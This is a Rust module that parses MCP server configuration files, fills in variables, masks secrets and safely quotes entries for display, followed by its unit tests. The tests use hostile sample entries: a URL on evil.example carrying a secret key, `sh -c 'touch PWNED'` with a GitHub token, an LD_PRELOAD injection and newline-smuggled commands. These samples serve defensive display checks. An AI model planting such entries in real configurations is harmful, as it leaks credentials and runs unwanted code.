//! Reads the configuration of MCP servers: files of the usual shape, `{"mcpServers": {NAME: {...}}}`.
//!
//! | key | for | what |
//! | --- | --- | --- |
//! | `command`, `args`, `env`, `cwd` | stdio | the program to start, and its arguments, environment and folder |
//! | `url`, `headers`, `type` | streamable HTTP | its address (`type` `http` or `streamable-http`, optional) |
//! | `url`, `headers`, `type` | HTTP+SSE | the address of its event stream (`type` `sse`; revision 2024-11-05) |
//! | `timeout` | all | most seconds per call, 60 by default |
//! | `disabled` | all | true: the server is not used |
//! | `autoApprove` | all | names of tools that run without asking the user, if the server declares them read-only |
//!
//! `${NAME}` and `${NAME:-DEFAULT}` in values stand for environment variables. They are filled in when a server is used
//! ([`Config::fill`]), not when it is shown. Relative paths in a project's file are resolved from the file's folder.
//! Unknown keys are ignored: other programs read the same files.

use caro_policy::is_hidden;
use serde::Deserialize;
use serde_json::{Map, Value};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// Most time a call may take if the file sets none.
const DEFAULT_TIMEOUT: Duration = Duration::from_secs(60);
/// Largest configuration file accepted, bytes.
const MAX_FILE_BYTES: u64 = 1 << 20;

/// The source of a configuration file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Origin {
    /// The user's own configuration.
    User,
    /// The project's folder; the file may have been written by somebody else.
    Project,
}

/// The configuration of one server.
#[derive(Clone, PartialEq, Eq)]
pub struct Config {
    /// Its name in the file.
    pub name: String,
    /// The transport with its variables filled in, after [`Config::fill`]. May hold secrets: use [`Config::shown`] for
    /// display.
    pub reach: Reach,
    /// The entry as written in the file; empty for a server that comes from no file.
    pub written: Written,
    /// Most time a call may take.
    pub timeout: Duration,
    /// True if the server is not used.
    pub disabled: bool,
    /// Tools that run without asking the user. Ignored in a project's file.
    pub approved: Vec<String>,
    /// The source of the file.
    pub origin: Origin,
}

/// An entry as written in its file.
#[derive(Clone, Default, PartialEq, Eq)]
pub struct Written {
    /// The transport before its variables are filled in.
    reach: Option<Reach>,
    /// The environment variables that were filled in, with their values.
    variables: Vec<(String, String)>,
    /// The file.
    file: PathBuf,
}

/// A server's transport.
#[derive(Clone, PartialEq, Eq)]
pub enum Reach {
    /// A program that is started and speaks over its standard streams.
    Stdio {
        /// The program: a name looked up in PATH, or a path.
        command: String,
        /// Its arguments.
        args: Vec<String>,
        /// Environment variables in addition to the few that every child process gets.
        env: Vec<(String, String)>,
        /// Its working directory, relative to [`Config::base`]; by default that folder itself.
        cwd: Option<PathBuf>,
    },
    /// A streamable HTTP address.
    Http {
        /// `http://` or `https://`.
        url: String,
        /// Sent with every request.
        headers: Vec<(String, String)>,
    },
    /// The address of an event stream, which names the address that messages are posted to.
    Sse {
        /// `http://` or `https://`.
        url: String,
        /// Sent with every request.
        headers: Vec<(String, String)>,
    },
}

impl Reach {
    /// True if the server is reached over the network.
    pub(super) fn is_address(&self) -> bool {
        !matches!(self, Self::Stdio { .. })
    }
}

/// Environment variables whose values are not secret.
const PUBLIC_VARIABLES: &[&str] = &[
    "HOME",
    "USER",
    "LOGNAME",
    "PATH",
    "PWD",
    "SHELL",
    "LANG",
    "TMPDIR",
    "TEMP",
    "USERPROFILE",
    "APPDATA",
    "LOCALAPPDATA",
];
/// Shortest value treated as a secret, bytes. Shorter values would match unrelated text.
const MIN_SECRET_BYTES: usize = 6;

impl Config {
    /// Returns the program or address for display, as written in the file: variables are not filled in. For a project's
    /// file everything is shown, because the user agrees to all of it. For the user's own file, literal values of
    /// environment variables and headers are hidden.
    pub fn shown(&self) -> String {
        let value = |text: &str| match self.origin {
            Origin::User if !text.contains("${") => "...".to_owned(),
            _ => shell_quote(text),
        };
        match self.written.reach.as_ref().unwrap_or(&self.reach) {
            Reach::Stdio { command, args, env, cwd } => {
                let env = env.iter().map(|(name, text)| format!("{}={} ", single_word(name), value(text)));
                let env: String = env.collect();
                let args: String = args.iter().map(|a| format!(" {}", shell_quote(a))).collect();
                let cwd = cwd.as_ref().map(|cwd| format!(" (in {})", single_word(&cwd.to_string_lossy())));
                let cwd = cwd.unwrap_or_default();
                format!("{env}{}{args}{cwd}", shell_quote(command))
            }
            Reach::Http { url, headers } | Reach::Sse { url, headers } => {
                let headers = headers.iter().map(|(name, text)| format!("{}: {}", single_word(name), value(text)));
                let headers = headers.collect::<Vec<_>>().join(", ");
                if headers.is_empty() { single_word(url) } else { format!("{} ({headers})", single_word(url)) }
            }
        }
    }

    /// Returns the names of the user's environment variables that the entry refers to, sorted.
    pub fn given(&self) -> Vec<String> {
        let mut used = Vec::new();
        if let Some(written) = &self.written.reach {
            // an entry that fails here fails with any values, and is never started
            let _ = fill_in(written, &|_| Some("any".into()), &mut used);
        }
        let mut names: Vec<String> = used.into_iter().map(|(name, _)| single_word(&name)).collect();
        names.sort_unstable();
        names.dedup();
        names
    }

    /// Fills in the variables of a server that is to be used; `variable` looks up the value of `${NAME}`.
    ///
    /// # Errors
    /// If a variable is not set, or the address is not `http://` or `https://`.
    pub fn fill(&mut self, variable: &dyn Fn(&str) -> Option<String>) -> Result<(), ConfigError> {
        let Some(written) = &self.written.reach else { return Ok(()) };
        let mut variables = Vec::new();
        let reach = fill_in(written, variable, &mut variables);
        self.reach = reach.map_err(|why| why.for_server(&self.name, &self.written.file))?;
        self.written.variables = variables;
        Ok(())
    }

    /// Returns the folder that its relative paths start from: that of a project's file, else the working directory.
    pub fn base<'a>(&'a self, root: &'a Path) -> &'a Path {
        match self.written.file.parent() {
            Some(folder) if self.origin == Origin::Project => folder,
            _ => root,
        }
    }

    /// Returns the values that must not appear in events: those of environment variables and headers, and every value
    /// filled in for a variable.
    pub fn secrets(&self) -> impl Iterator<Item = String> + '_ {
        let (Reach::Stdio { env: pairs, .. } | Reach::Http { headers: pairs, .. } | Reach::Sse { headers: pairs, .. }) =
            &self.reach;
        // of `Bearer abc`, the server may echo `abc` alone
        pairs
            .iter()
            .filter(|(name, _)| !PUBLIC_VARIABLES.contains(&name.as_str()))
            .flat_map(|(_, value)| [value.as_str(), value.rsplit(' ').next().unwrap_or_default()])
            .chain(self.substituted().map(|(_, value)| value))
            .map(str::to_owned)
    }

    /// Returns the text with every value that was filled in replaced by its `${NAME}`, for use in messages.
    pub fn masked(&self, text: &str) -> String {
        self.substituted().fold(text.to_owned(), |text, (name, value)| text.replace(value, &format!("${{{name}}}")))
    }

    fn substituted(&self) -> impl Iterator<Item = (&str, &str)> {
        let all = self.written.variables.iter().map(|(name, value)| (name.as_str(), value.as_str()));
        all.filter(|(name, value)| value.len() >= MIN_SECRET_BYTES && !PUBLIC_VARIABLES.contains(name))
    }
}

/// Quotes a word as a shell would need it, so that its end is unambiguous.
fn shell_quote(text: &str) -> String {
    let plain = |c: char| c.is_alphanumeric() || "-_./:=,@%+${}".contains(c);
    if !text.is_empty() && text.chars().all(plain) {
        text.to_owned()
    } else if !text.chars().any(is_invisible) {
        format!("'{}'", text.replace('\'', r"'\''"))
    } else {
        let written = text.chars().map(|c| match c {
            '\n' => r"\n".to_owned(),
            '\\' | '\'' => format!("\\{c}"),
            c if c.is_ascii() && is_invisible(c) => format!("\\x{:02x}", u32::from(c)),
            c if is_invisible(c) => format!("\\U{:08x}", u32::from(c)),
            c => c.to_string(),
        });
        format!("$'{}'", written.collect::<String>())
    }
}

/// Returns the text as it is, or quoted if it contains whitespace or invisible characters.
fn single_word(text: &str) -> String {
    if text.chars().any(|c| c.is_whitespace() || is_invisible(c)) { shell_quote(text) } else { text.to_owned() }
}

/// True if a terminal would not show the character as itself.
fn is_invisible(c: char) -> bool {
    c.is_control() || is_hidden(c)
}

/// The reason why a file, or one server in it, cannot be used.
#[derive(Debug, thiserror::Error)]
pub enum ConfigError {
    /// The file cannot be read.
    #[error("could not read {path}: {reason}")]
    Read {
        /// The file.
        path: String,
        /// The reason.
        reason: String,
    },
    /// The file is not a list of MCP servers.
    #[error("{path} is not a list of MCP servers: {reason}")]
    Form {
        /// The file.
        path: String,
        /// The reason.
        reason: String,
    },
    /// The entry of one server is invalid; the others are used.
    #[error("the MCP server `{server}` of {path} is left out: {reason}")]
    Server {
        /// The server's name.
        server: String,
        /// The file.
        path: String,
        /// The reason.
        reason: String,
        /// A hint on how to fix it.
        advice: &'static str,
    },
    /// A server refers to a variable that is not set; the others are used.
    #[error("the MCP server `{server}` of {path} is left out: the variable {name} is not set")]
    Unset {
        /// The server's name.
        server: String,
        /// The file.
        path: String,
        /// The variable's name.
        name: String,
    },
}

/// The reason why one server is left out.
enum EntryError {
    /// A variable is not set.
    Unset(String),
    /// The transport is missing or ambiguous.
    UnclearTransport(String),
    /// Any other reason.
    Reason(String),
}

impl EntryError {
    /// Converts it to the error for this server of this file.
    fn for_server(self, server: &str, file: &Path) -> ConfigError {
        let (server, path) = (server.to_owned(), file.display().to_string());
        match self {
            Self::Unset(name) => ConfigError::Unset { server, path, name },
            Self::UnclearTransport(reason) => {
                let advice = "give it a `command` (with `args`, `env`) or a `url` (with `headers`)";
                ConfigError::Server { server, path, reason, advice }
            }
            Self::Reason(reason) => {
                let advice = "correct that in its entry, or take the entry out";
                ConfigError::Server { server, path, reason, advice }
            }
        }
    }
}

impl From<String> for EntryError {
    fn from(reason: String) -> Self {
        Self::Reason(reason)
    }
}

impl ConfigError {
    /// Returns a hint on what to do next.
    pub fn hint(&self) -> &'static str {
        match self {
            Self::Read { .. } => "check that the file may be read and is not too large",
            Self::Form { .. } => {
                r#"it looks like {"mcpServers": {"time": {"command": "uvx", "args": ["mcp-server-time"]}}}"#
            }
            Self::Unset { .. } => {
                "export that variable, give it a value in the file (`${NAME:-DEFAULT}`), or set `disabled` to true"
            }
            Self::Server { advice, .. } => advice,
        }
    }
}

/// The keys of a server's entry.
#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct Entry {
    command: Option<String>,
    #[serde(default)]
    args: Vec<String>,
    #[serde(default)]
    env: BTreeMap<String, String>,
    cwd: Option<PathBuf>,
    url: Option<String>,
    #[serde(default)]
    headers: BTreeMap<String, String>,
    #[serde(rename = "type")]
    kind: Option<String>,
    timeout: Option<f64>,
    #[serde(default)]
    disabled: bool,
    #[serde(default)]
    auto_approve: Vec<String>,
}

/// Reads the text of a configuration file; `None` if it does not exist.
///
/// # Errors
/// If it cannot be read, is too large, or is not text.
pub fn text(path: &Path) -> Result<Option<String>, ConfigError> {
    let failed = |reason: String| ConfigError::Read { path: path.display().to_string(), reason };
    match std::fs::metadata(path) {
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(failed(e.to_string())),
        Ok(meta) if !meta.is_file() => return Err(failed("it is not a file".into())),
        Ok(meta) if meta.len() > MAX_FILE_BYTES => return Err(failed(format!("it has {} bytes", meta.len()))),
        Ok(_) => {}
    }
    caro_base::files::read_text(path, MAX_FILE_BYTES).map(Some).map_err(|e| failed(e.to_string()))
}

/// Parses the servers of a file, without filling in variables, and the errors of the entries that are invalid.
///
/// # Errors
/// If the file as a whole is not a list of servers.
pub fn parse(text: &str, path: &Path, origin: Origin) -> Result<(Vec<Config>, Vec<ConfigError>), ConfigError> {
    let form = |reason: String| ConfigError::Form { path: path.display().to_string(), reason };
    let text = text.trim_start_matches('\u{feff}');
    let document: Value = serde_json::from_str(text).map_err(|e| form(e.to_string()))?;
    let servers: &Map<String, Value> = document
        .get("mcpServers")
        .and_then(Value::as_object)
        .ok_or_else(|| form("it has no object `mcpServers`".into()))?;
    let (mut all, mut wrong) = (Vec::new(), Vec::new());
    for (name, entry) in servers {
        match parse_entry(name, entry, path, origin) {
            Ok(config) => all.push(config),
            Err(why) => wrong.push(why.for_server(name, path)),
        }
    }
    Ok((all, wrong))
}

fn parse_entry(name: &str, entry: &Value, file: &Path, origin: Origin) -> Result<Config, EntryError> {
    if name.trim().is_empty() || name.chars().count() > 64 || name.contains(char::is_control) {
        return Err("its name is empty, longer than 64 characters or not printable".to_owned().into());
    }
    let entry = Entry::deserialize(entry).map_err(|e| e.to_string())?;
    let kind = entry.kind.as_deref();
    let pairs = |map: BTreeMap<String, String>| map.into_iter().collect();
    let written = match (entry.command, entry.url) {
        (Some(command), None) if matches!(kind, None | Some("stdio")) => {
            Reach::Stdio { command, args: entry.args, env: pairs(entry.env), cwd: entry.cwd }
        }
        (None, Some(url)) if matches!(kind, None | Some("http" | "streamable-http" | "streamableHttp")) => {
            Reach::Http { url, headers: pairs(entry.headers) }
        }
        (None, Some(url)) if kind == Some("sse") => Reach::Sse { url, headers: pairs(entry.headers) },
        (Some(_), Some(_)) => return Err(EntryError::UnclearTransport("it has both a `command` and a `url`".into())),
        (None, None) => return Err(EntryError::UnclearTransport("it has neither a `command` nor a `url`".into())),
        _ => return Err(EntryError::UnclearTransport(format!("its `type` {} does not fit", kind.unwrap_or_default()))),
    };
    let timeout = match entry.timeout {
        None => DEFAULT_TIMEOUT,
        Some(seconds) if (0.1..=3600.0).contains(&seconds) => Duration::from_secs_f64(seconds),
        Some(other) => return Err(format!("its `timeout` {other} is not in seconds between 0.1 and 3600").into()),
    };
    let approved = if origin == Origin::User { entry.auto_approve } else { Vec::new() };
    Ok(Config {
        name: name.into(),
        reach: written.clone(),
        written: Written { reach: Some(written), variables: Vec::new(), file: file.to_owned() },
        timeout,
        disabled: entry.disabled,
        approved,
        origin,
    })
}

/// Returns the transport with its variables filled in; adds their names and values to `used`.
fn fill_in(
    written: &Reach,
    variable: &dyn Fn(&str) -> Option<String>,
    used: &mut Vec<(String, String)>,
) -> Result<Reach, EntryError> {
    let noted = std::cell::RefCell::new(used);
    let ask = |name: &str| {
        let value = variable(name).filter(|value| !value.is_empty())?;
        noted.borrow_mut().push((name.to_owned(), value.clone()));
        Some(value)
    };
    let full = |text: &String| expand(text, &ask);
    let pairs = |all: &Vec<(String, String)>| -> Result<Vec<(String, String)>, EntryError> {
        all.iter().map(|(name, value)| Ok((name.clone(), full(value)?))).collect()
    };
    Ok(match written {
        Reach::Stdio { command, args, env, cwd } => Reach::Stdio {
            command: full(command)?,
            args: args.iter().map(full).collect::<Result<_, _>>()?,
            env: pairs(env)?,
            cwd: cwd.as_ref().map(|cwd| expand(&cwd.to_string_lossy(), &ask)).transpose()?.map(PathBuf::from),
        },
        Reach::Http { url, headers } => Reach::Http { headers: pairs(headers)?, url: address(url, &ask)? },
        Reach::Sse { url, headers } => Reach::Sse { headers: pairs(headers)?, url: address(url, &ask)? },
    })
}

/// Fills in the variables of an address.
fn address(written: &str, variable: &dyn Fn(&str) -> Option<String>) -> Result<String, EntryError> {
    let url = expand(written, variable)?;
    if !url.starts_with("http://") && !url.starts_with("https://") {
        return Err(format!("`{written}` is not an http:// or https:// address").into());
    }
    Ok(url)
}

/// Fills in the variables of a text.
fn expand(text: &str, variable: &dyn Fn(&str) -> Option<String>) -> Result<String, EntryError> {
    let mut full = String::new();
    let mut rest = text;
    while let Some(at) = rest.find("${") {
        let (before, after) = (&rest[..at], &rest[at + 2..]);
        let (inside, end) = after.split_once('}').ok_or_else(|| format!("`{text}` has a ${{ without its }}"))?;
        let (name, default) = match inside.split_once(":-") {
            Some((name, default)) => (name, Some(default)),
            None => (inside, None),
        };
        let value = variable(name).or_else(|| default.map(str::to_owned));
        full.push_str(before);
        full.push_str(&value.ok_or_else(|| EntryError::Unset(name.to_owned()))?);
        rest = end;
    }
    full.push_str(rest);
    Ok(full)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(text: &str, origin: Origin) -> (Vec<Config>, Vec<String>) {
        let variable = |name: &str| (name == "KEY").then(|| "k-123456".to_owned());
        parse_and_fill(text, origin, &variable)
    }

    /// Parses a file and fills in the servers that are not disabled.
    fn parse_and_fill(
        text: &str,
        origin: Origin,
        variable: &dyn Fn(&str) -> Option<String>,
    ) -> (Vec<Config>, Vec<String>) {
        let (mut all, mut wrong) = parse(text, Path::new("/here/mcp.json"), origin).unwrap();
        all.retain_mut(|c| c.disabled || c.fill(variable).map_err(|e| wrong.push(e)).is_ok());
        (all, wrong.iter().map(ToString::to_string).collect())
    }

    #[test]
    fn both_kinds_of_servers_are_read_and_variables_filled_in() {
        let text = r#"{"mcpServers": {
            "files": {"command": "npx", "args": ["-y", "x", "${DIR:-.}"], "env": {"TOKEN": "${KEY}"}, "timeout": 5,
                      "autoApprove": ["read"], "unknownToUs": {"a": 1}},
            "web": {"type": "http", "url": "https://host/mcp", "headers": {"Authorization": "Bearer ${KEY}"}},
            "old": {"type": "sse", "url": "https://host/sse", "headers": {"Authorization": "Bearer ${KEY}"}},
            "off": {"command": "x", "disabled": true}}, "other": 1}"#;
        let (all, wrong) = read(text, Origin::User);
        assert!(wrong.is_empty(), "{wrong:?}");
        assert_eq!(all.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(), ["files", "web", "old", "off"]);
        let Reach::Sse { url, headers } = &all[2].reach else { panic!() };
        assert_eq!((url.as_str(), headers[0].1.as_str()), ("https://host/sse", "Bearer k-123456"));
        let Reach::Stdio { args, env, .. } = &all[0].reach else { panic!() };
        assert_eq!((args[2].as_str(), env[0].1.as_str()), (".", "k-123456"));
        assert_eq!((all[0].timeout, all[1].timeout), (Duration::from_secs(5), DEFAULT_TIMEOUT));
        assert_eq!((all[0].approved.len(), all[3].disabled), (1, true));
        assert_eq!(all[0].shown(), "TOKEN=${KEY} npx -y x ${DIR:-.}");
        assert_eq!((all[0].given(), all[3].given()), (vec!["DIR".to_owned(), "KEY".to_owned()], vec![]));
        assert!(all.iter().all(|c| !c.shown().contains("k-123456")));
        assert!(all[1..3].iter().all(|c| c.secrets().any(|s| s == "k-123456")), "without its `Bearer`");
        // `autoApprove` in a project's file is ignored
        assert_eq!(read(text, Origin::Project).0[0].approved, [""; 0]);
    }

    #[test]
    fn project_entries_are_shown_in_full_and_literal_values_of_the_user_are_hidden() {
        let text = r#"{"mcpServers": {
            "a": {"command": "node", "args": ["s.js", "--token", "${KEY}", "two words"], "cwd": "sub",
                  "env": {"LD_PRELOAD": "./x.so"}},
            "b": {"url": "https://evil.example/mcp?k=${KEY}", "headers": {"X": "${KEY}", "Y": "literal"}},
            "c": {"command": "x", "args": ["${HOME}"]}}}"#;
        let variable = |name: &str| match name {
            "KEY" => Some("sekrit-123456".to_owned()),
            "HOME" => Some("/home/somebody".to_owned()),
            _ => None,
        };
        let shown = |origin| -> Vec<Config> { parse_and_fill(text, origin, &variable).0 };
        let project = shown(Origin::Project);
        assert_eq!(project[0].shown(), "LD_PRELOAD=./x.so node s.js --token ${KEY} 'two words' (in sub)");
        assert_eq!(project[1].shown(), "https://evil.example/mcp?k=${KEY} (X: ${KEY}, Y: literal)");
        let own = shown(Origin::User);
        assert_eq!(own[0].shown(), "LD_PRELOAD=... node s.js --token ${KEY} 'two words' (in sub)");
        assert_eq!(own[1].shown(), "https://evil.example/mcp?k=${KEY} (X: ${KEY}, Y: ...)");
        for config in project.iter().take(2) {
            assert_eq!(config.given(), ["KEY"]);
            assert!(config.secrets().any(|s| s == "sekrit-123456"), "wherever it was filled in");
            assert_eq!(
                config.masked("no https://evil.example/mcp?k=sekrit-123456"),
                "no https://evil.example/mcp?k=${KEY}"
            );
        }
        assert_eq!(project[2].secrets().count(), 0, "everybody knows where a home is");
        let Reach::Stdio { args, .. } = &project[2].reach else { panic!() };
        assert_eq!(args, &["/home/somebody"]);
    }

    #[test]
    fn every_entry_is_shown_on_one_line() {
        let text = r#"{"mcpServers": {
            "a": {"command": "sh", "args": ["x\nnice  echo 'harmless'\r\\", "\u202ea"], "cwd": "sub\nnice  echo",
                  "env": {"A\nB": "a\nb"}},
            "b": {"url": "https://evil.example/\nnice  echo", "headers": {"X\nY": "a\nb"}},
            "c": {"command": "x", "args": ["${A\nnice:-}"]}}}"#;
        let (all, wrong) = parse(text, Path::new("/repo/.mcp.json"), Origin::Project).unwrap();
        assert!(wrong.is_empty(), "{wrong:?}");
        assert_eq!(
            all[0].shown(),
            r"$'A\nB'=$'a\nb' sh $'x\nnice  echo \'harmless\'\x0d\\' $'\U0000202ea' (in $'sub\nnice  echo')"
        );
        assert_eq!(all[1].shown(), r"$'https://evil.example/\nnice  echo' ($'X\nY': $'a\nb')");
        assert_eq!((all[2].shown(), all[2].given()), (r"x $'${A\nnice:-}'".into(), vec![r"$'A\nnice'".into()]));
    }

    #[test]
    fn an_invalid_entry_leaves_the_others_usable() {
        let text = r#"{"mcpServers": {
            "none": {}, "both": {"command": "a", "url": "http://b"}, "ftp": {"url": "ftp://b"}, "t": {"command": "a", "timeout": 60000},
            "v": {"command": "${NOT_SET}"}, "o": {"command": "a${"}, "n": 5, "s": {"command": "a", "type": "http"},
            "": {"command": "a"}, "good": {"command": "a"}}}"#;
        let (all, wrong) = read(text, Origin::User);
        assert_eq!(all.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(), ["good"]);
        for why in [
            "neither",
            "both",
            "not an http://",
            "in seconds",
            "NOT_SET is not set",
            "without its }",
            "invalid type",
            "`type` http does not fit",
            "name is empty",
        ] {
            assert!(wrong.iter().any(|w| w.contains(why)), "{why} in {wrong:#?}");
        }
    }

    #[test]
    fn the_hint_matches_the_error() {
        let text =
            r#"{"mcpServers": {"n": {}, "t": {"command": "a", "timeout": -3}, "s": {"command": "a", "type": "sse"}}}"#;
        let (_, wrong) = parse(text, Path::new("mcp.json"), Origin::User).unwrap();
        let hint = |why: &str| wrong.iter().find(|e| e.to_string().contains(why)).unwrap().hint();
        assert!(hint("neither").contains("`url`"));
        assert!(!hint("`timeout` -3 is not").contains("`url`"));
        assert!(hint("`type` sse does not fit").contains("`url`"));
    }

    #[test]
    fn an_unset_variable_is_an_error_only_when_the_server_is_filled_in() {
        let text = r#"{"mcpServers": {
            "tracker": {"url": "https://tracker.example/mcp", "headers": {"Authorization": "Bearer ${TRACKER_KEY}"}},
            "off": {"command": "x", "env": {"A": "${TRACKER_KEY}"}, "disabled": true},
            "away": {"url": "${TRACKER_URL}", "disabled": true}}}"#;
        let (mut all, wrong) = parse(text, Path::new("mcp.json"), Origin::User).unwrap();
        assert_eq!((all.len(), wrong.len(), all[1].disabled, all[2].disabled), (3, 0, true, true));
        let unset = all[0].fill(&|_| None).unwrap_err();
        assert!(unset.to_string().ends_with("is left out: the variable TRACKER_KEY is not set"), "{unset}");
        assert!(unset.hint().contains("export") && !unset.hint().contains("`url`"), "{}", unset.hint());
        // a disabled server can still be filled in, to be tried
        all[1].fill(&|_| Some("k-123456".into())).unwrap();
        let Reach::Stdio { env, .. } = &all[1].reach else { panic!() };
        assert_eq!(env[0].1, "k-123456");
        assert!(all[2].fill(&|_| Some("nowhere".into())).unwrap_err().to_string().contains("not an http://"));
    }

    #[test]
    fn a_cwd_is_filled_in_but_shown_as_written() {
        let text = r#"{"mcpServers": {"a": {"command": "x", "cwd": "${KEY}/sub"}, "b": {"command": "x", "cwd": "${NOT_SET}"}}}"#;
        let (all, wrong) = read(text, Origin::Project);
        let Reach::Stdio { cwd, .. } = &all[0].reach else { panic!() };
        assert_eq!(cwd.as_deref(), Some(Path::new("k-123456/sub")));
        assert_eq!((all[0].shown(), all[0].given()), ("x (in ${KEY}/sub)".into(), vec!["KEY".into()]));
        assert!(all.len() == 1 && wrong[0].contains("NOT_SET is not set"), "{wrong:?}");
    }

    #[test]
    fn a_project_entry_is_shown_before_its_variables_are_filled_in() {
        let text = r#"{"mcpServers": {
            "evil": {"command": "sh", "args": ["-c", "touch PWNED; exec cat", "${GITHUB_TOKEN}"]},
            "far": {"url": "${URL}", "headers": {"X": "${KEY:-none}"}}}}"#;
        let (all, wrong) = parse(text, Path::new("/repo/.mcp.json"), Origin::Project).unwrap();
        assert!(wrong.is_empty(), "{wrong:?}");
        assert_eq!(all[0].shown(), "sh -c 'touch PWNED; exec cat' ${GITHUB_TOKEN}");
        assert_eq!(all[1].shown(), "${URL} (X: ${KEY:-none})");
        assert_eq!((all[0].given(), all[1].given()), (vec!["GITHUB_TOKEN".into()], vec!["KEY".into(), "URL".into()]));
    }

    #[test]
    fn relative_paths_of_a_project_start_from_its_file() {
        let text = r#"{"mcpServers": {"a": {"command": "./srv.sh"}}}"#;
        let base = |origin| {
            let all = parse(text, Path::new("/repo/.mcp.json"), origin).unwrap().0;
            all[0].base(Path::new("/repo/sub")).to_owned()
        };
        assert_eq!((base(Origin::Project), base(Origin::User)), ("/repo".into(), "/repo/sub".into()));
    }

    #[test]
    fn an_invalid_file_gets_a_hint_with_an_example() {
        for text in ["", "{", "[]", r#"{"servers": {}}"#, r#"{"mcpServers": []}"#] {
            let Err(error) = parse(text, Path::new("x.json"), Origin::User) else { panic!("{text} was read") };
            assert!(
                error.to_string().contains("x.json is not a list") && error.hint().contains("mcpServers"),
                "{error}"
            );
        }
        assert!(text(Path::new("/nowhere/mcp.json")).unwrap().is_none());
    }
}
